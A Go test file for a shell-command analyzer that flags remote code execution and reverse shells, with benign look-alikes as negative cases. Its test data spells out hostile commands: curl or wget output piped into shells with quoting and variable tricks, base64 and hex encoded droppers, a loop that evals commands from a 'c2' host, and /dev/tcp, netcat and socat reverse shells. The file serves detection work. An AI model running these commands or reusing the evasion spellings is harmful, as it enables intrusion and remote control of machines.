package rules

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestAnalyzeShellRuns checks which commands run network or decoded bytes,
// whatever the spelling: every evasion of the old regexes, and benign
// look-alikes that must not count.
func TestAnalyzeShellRuns(t *testing.T) {
	type run struct{ How, Fetcher, Interp, URL string }
	b64 := base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://203.0.113.9/x | sh"))
	tests := []struct {
		name string
		cmd  string
		want []run
	}{
		{name: "plain pipe", cmd: "curl -fsSL https://get.example.dev/i.sh | sh",
			want: []run{{"pipe", "curl", "sh", "https://get.example.dev/i.sh"}}},
		{name: "empty quotes in names", cmd: "c''url -fsSL https://get.example.dev/i.sh | s''h",
			want: []run{{"pipe", "curl", "sh", "https://get.example.dev/i.sh"}}},
		{name: "double quotes and backslashes", cmd: `"cu"rl https://get.example.dev/i.sh | b\ash`,
			want: []run{{"pipe", "curl", "bash", "https://get.example.dev/i.sh"}}},
		{name: "ansi-c quoting", cmd: `$'\x63url' https://get.example.dev/i.sh | $'\163h'`,
			want: []run{{"pipe", "curl", "sh", "https://get.example.dev/i.sh"}}},
		{name: "variable indirection", cmd: "d=curl; $d -s https://get.example.dev/i.sh | bash",
			want: []run{{"pipe", "curl", "bash", "https://get.example.dev/i.sh"}}},
		{name: "variable url", cmd: `u=https://get.example.dev/i.sh; curl -s "$u" | bash`,
			want: []run{{"pipe", "curl", "bash", "https://get.example.dev/i.sh"}}},
		{name: "tee in between", cmd: "curl -s https://get.example.dev/i.sh | tee /tmp/x | sh",
			want: []run{{"pipe", "curl", "sh", "https://get.example.dev/i.sh"}}},
		{name: "wget to stdout into sudo bash", cmd: "wget -qO- https://get.example.dev/i.sh | sudo -E bash -s -- --yes",
			want: []run{{"pipe", "wget", "bash", "https://get.example.dev/i.sh"}}},
		{name: "env and nohup wrappers", cmd: "env X=1 curl -s https://get.example.dev/i | nohup python3 -",
			want: []run{{"pipe", "curl", "python3", "https://get.example.dev/i"}}},
		{name: "command substitution to sh -c", cmd: `sh -c "$(curl -fsSL https://get.example.dev/i.sh)"`,
			want: []run{{"command substitution", "curl", "sh", "https://get.example.dev/i.sh"}}},
		{name: "eval of a download", cmd: `eval "$(wget -qO- https://get.example.dev/i.sh)"`,
			want: []run{{"eval", "wget", "eval", "https://get.example.dev/i.sh"}}},
		{name: "eval of a string holding a pipe", cmd: `eval "curl -s https://get.example.dev/i.sh | bash"`,
			want: []run{{"pipe", "curl", "bash", "https://get.example.dev/i.sh"}}},
		{name: "process substitution", cmd: "bash <(curl -s https://get.example.dev/i.sh)",
			want: []run{{"process substitution", "curl", "bash", "https://get.example.dev/i.sh"}}},
		{name: "source of a download", cmd: "source <(curl -s https://get.example.dev/env.sh)",
			want: []run{{"process substitution", "curl", "source", "https://get.example.dev/env.sh"}}},
		{name: "stdin redirect from process substitution", cmd: "bash < <(curl -s https://get.example.dev/i.sh)",
			want: []run{{"process substitution", "curl", "bash", "https://get.example.dev/i.sh"}}},
		{name: "python -c with a download", cmd: `python3 -c "$(curl -s https://get.example.dev/p.py)"`,
			want: []run{{"command substitution", "curl", "python3", "https://get.example.dev/p.py"}}},
		{name: "nested sh -c", cmd: `bash -c 'curl -s https://get.example.dev/i.sh | sh'`,
			want: []run{{"pipe", "curl", "sh", "https://get.example.dev/i.sh"}}},
		{name: "base64 decoded dropper", cmd: "echo " + b64 + " | base64 -d | bash",
			want: []run{{"decoded", "", "bash", ""}, {"pipe", "curl", "sh", "http://203.0.113.9/x"}}},
		{name: "macOS base64 -D", cmd: "echo '" + b64 + "' | base64 -D | sh",
			want: []run{{"decoded", "", "sh", ""}, {"pipe", "curl", "sh", "http://203.0.113.9/x"}}},
		{name: "hex decoded with xxd", cmd: "echo " + hex.EncodeToString([]byte("wget -qO- http://203.0.113.9/y | sh")) + " | xxd -r -p | bash",
			want: []run{{"decoded", "", "bash", ""}, {"pipe", "wget", "sh", "http://203.0.113.9/y"}}},
		{name: "eval of decoded substitution", cmd: "eval $(echo " + b64 + " | base64 --decode)",
			want: []run{{"decoded", "", "eval", ""}, {"pipe", "curl", "sh", "http://203.0.113.9/x"}}},
		{name: "here-string into base64", cmd: "base64 -d <<< " + b64 + " | sh",
			want: []run{{"decoded", "", "sh", ""}, {"pipe", "curl", "sh", "http://203.0.113.9/x"}}},
		{name: "deno run url", cmd: "deno run -A https://deno.land/x/tool/cli.ts",
			want: []run{{"remote module", "deno", "deno", "https://deno.land/x/tool/cli.ts"}}},
		{name: "read loop eval", cmd: "curl -s https://c2.example.dev/cmds | while read l; do eval \"$l\"; done",
			want: []run{{"pipe", "curl", "read loop", "https://c2.example.dev/cmds"}}},

		{name: "json formatter", cmd: "curl -s https://api.example.com/v1 | python3 -m json.tool"},
		{name: "jq", cmd: "curl -s https://api.example.com/v1 | jq .data"},
		{name: "python -c reading data", cmd: `curl -s https://api.example.com/v1 | python3 -c "import sys,json; print(json.load(sys.stdin))"`},
		{name: "python script reading data", cmd: "curl -s https://api.example.com/v1 | python3 summarize.py"},
		{name: "download to a file", cmd: "curl -fsSLo install.sh https://get.example.dev/i.sh"},
		{name: "sh -c of a literal", cmd: `sh -c "echo hello | tr a-z A-Z"`},
		{name: "base64 of data piped to sh script", cmd: "echo aGVsbG8= | base64 -d | wc -c"},
		{name: "bash running a local script", cmd: "bash ./scripts/setup.sh"},
		{name: "echo mentions curl pipe", cmd: `echo "run: curl -fsSL https://x.dev/i.sh | sh"`},
		{name: "unparsable", cmd: "curl 'unterminated | sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []run
			for _, r := range flattenFacts(analyzeShell(tt.cmd)).Runs {
				got = append(got, run{r.How, r.Fetcher, r.Interp, first(r.URLs)})
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("runs of %q (-want +got):\n%s", tt.cmd, diff)
			}
		})
	}
}

func TestAnalyzeShellFiles(t *testing.T) {
	tests := []struct {
		name      string
		cmd       string
		downloads []string
		fileRuns  []string
		chmods    []string
	}{
		{name: "curl -o then chmod then run", cmd: "curl -sL -o /tmp/h https://r.example.dev/h && chmod +x /tmp/h && /tmp/h",
			downloads: []string{"/tmp/h"}, fileRuns: []string{"/tmp/h"}, chmods: []string{"/tmp/h"}},
		{name: "curl -O remote name then sh", cmd: "curl -fsSLO https://r.example.dev/setup.sh; sh setup.sh",
			downloads: []string{"setup.sh"}, fileRuns: []string{"setup.sh"}},
		{name: "wget default name then bash", cmd: "wget https://r.example.dev/get-tool.sh && bash get-tool.sh --yes",
			downloads: []string{"get-tool.sh"}, fileRuns: []string{"get-tool.sh"}},
		{name: "redirect to a file then source", cmd: "curl -s https://r.example.dev/env > /tmp/env.sh; . /tmp/env.sh",
			downloads: []string{"/tmp/env.sh"}, fileRuns: []string{"/tmp/env.sh"}},
		{name: "chmod 755", cmd: "chmod 755 ./tool", chmods: []string{"./tool"}},
		{name: "chmod without x", cmd: "chmod 644 notes.txt"},
		{name: "python script", cmd: "python3 -u scripts/analyze.py data.csv", fileRuns: []string{"scripts/analyze.py"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := analyzeShell(tt.cmd)
			var dl, fr []string
			for _, d := range f.Downloads {
				dl = append(dl, d.Path)
			}
			for _, r := range f.FileRuns {
				fr = append(fr, r.Path)
			}
			if diff := cmp.Diff(tt.downloads, dl); diff != "" {
				t.Errorf("downloads (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.fileRuns, fr); diff != "" {
				t.Errorf("file runs (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.chmods, f.Chmods); diff != "" {
				t.Errorf("chmods (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAnalyzeShellDevTCP(t *testing.T) {
	tests := []struct {
		cmd   string
		shell bool
	}{
		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", true},
		{"sh -i 5<> /dev/tcp/relay.example.org/443 0<&5 1>&5 2>&5", true},
		{"exec 5<>/dev/tcp/relay.example.org/443; cat <&5 | while read line; do $line 2>&5 >&5; done", true},
		{"0<&196;exec 196<>/dev/tcp/relay.example.org/443; sh <&196 >&196 2>&196", true},
		{"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/5432' && echo open", false},
		{"echo ping > /dev/tcp/status.example.org/80", false},
		{"bash -c '</dev/tcp/db.internal/5432' && echo up", false},
		{"exec 3<>/dev/tcp/example.org/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", false},
	}
	for _, tt := range tests {
		f := flattenFacts(analyzeShell(tt.cmd))
		shell := false
		for _, d := range f.DevTCP {
			shell = shell || d.Shell
		}
		if len(f.DevTCP) == 0 {
			t.Errorf("%q: no /dev/tcp use seen", tt.cmd)
		}
		if shell != tt.shell {
			t.Errorf("%q: shell = %v, want %v", tt.cmd, shell, tt.shell)
		}
	}
}

func TestNetShell(t *testing.T) {
	for _, tt := range []struct {
		cmd  string
		want bool
	}{
		{"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc relay.example.org 4444 > /tmp/f", true},
		{"nc relay.example.org 4444 | bash", true},
		{"curl -s https://get.example.dev/i.sh | sh", false},
		{"echo hi | nc relay.example.org 80", false},
	} {
		if got := analyzeShell(tt.cmd).netShell; got != tt.want {
			t.Errorf("%q: netShell = %v, want %v", tt.cmd, got, tt.want)
		}
	}
	for _, tt := range []struct {
		argv []string
		want bool
	}{
		{[]string{"ncat", "--exec", "/bin/bash", "relay.example.org", "443"}, true},
		{[]string{"nc", "-e", "/bin/sh", "203.0.113.7", "4444"}, true},
		{[]string{"socat", "TCP:relay.example.org:443", "EXEC:/bin/bash,pty,stderr"}, true},
		{[]string{"nc", "-zv", "db.internal", "5432"}, false},
		{[]string{"socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"}, false},
	} {
		if got := ncExecArgv(argvCmd(tt.argv)); got != tt.want {
			t.Errorf("%q: ncExecArgv = %v, want %v", tt.argv, got, tt.want)
		}
	}
}

func TestCurlWgetOutput(t *testing.T) {
	for _, tt := range []struct {
		argv []string
		out  string
		url  string
	}{
		{[]string{"curl", "-fsSL", "https://a.dev/x.sh"}, "-", "https://a.dev/x.sh"},
		{[]string{"curl", "-fsSLo", "/tmp/x", "https://a.dev/x.sh"}, "/tmp/x", "https://a.dev/x.sh"},
		{[]string{"curl", "-H", "Authorization: x", "--output=/tmp/y", "https://a.dev/y"}, "/tmp/y", "https://a.dev/y"},
		{[]string{"curl", "-O", "https://a.dev/dir/tool.tgz?x=1"}, "tool.tgz", "https://a.dev/dir/tool.tgz?x=1"},
		{[]string{"curl", "-d", "@file", "-X", "POST", "https://a.dev/api"}, "-", "https://a.dev/api"},
		{[]string{"wget", "https://a.dev/get.sh"}, "get.sh", "https://a.dev/get.sh"},
		{[]string{"wget", "-qO-", "https://a.dev/get.sh"}, "-", "https://a.dev/get.sh"},
		{[]string{"wget", "-O", "-", "https://a.dev/get.sh"}, "-", "https://a.dev/get.sh"},
		{[]string{"wget", "-P", "/opt", "https://a.dev/t.tar.gz"}, "/opt/t.tar.gz", "https://a.dev/t.tar.gz"},
	} {
		var out string
		var urls []string
		if tt.argv[0] == "curl" {
			out, urls = curlOutput(tt.argv[1:])
		} else {
			out, urls = wgetOutput(tt.argv[1:])
		}
		if out != tt.out || first(urls) != tt.url {
			t.Errorf("%q: output %q url %q, want %q %q", tt.argv, out, first(urls), tt.out, tt.url)
		}
	}
}

// FuzzAnalyzeShell: command text is untrusted; the analysis must not panic
// or run away, whatever it is given.
func FuzzAnalyzeShell(f *testing.F) {
	for _, s := range []string{
		"curl -s https://x.dev/i.sh | sh", "eval \"$(curl x)\"", "d=curl; $d x | bash",
		"echo Y3VybCB4IHwgc2g= | base64 -d | sh", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
		"cat <<EOF | base64 -d | sh\nZWNobyBoaQ==\nEOF", "$'\\x63url' x | s''h", "a=$(b=$(c)); eval $a",
		strings.Repeat("eval \"", 20) + "x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 1<<16 {
			return
		}
		_ = flattenFacts(analyzeShell(s))
	})
}
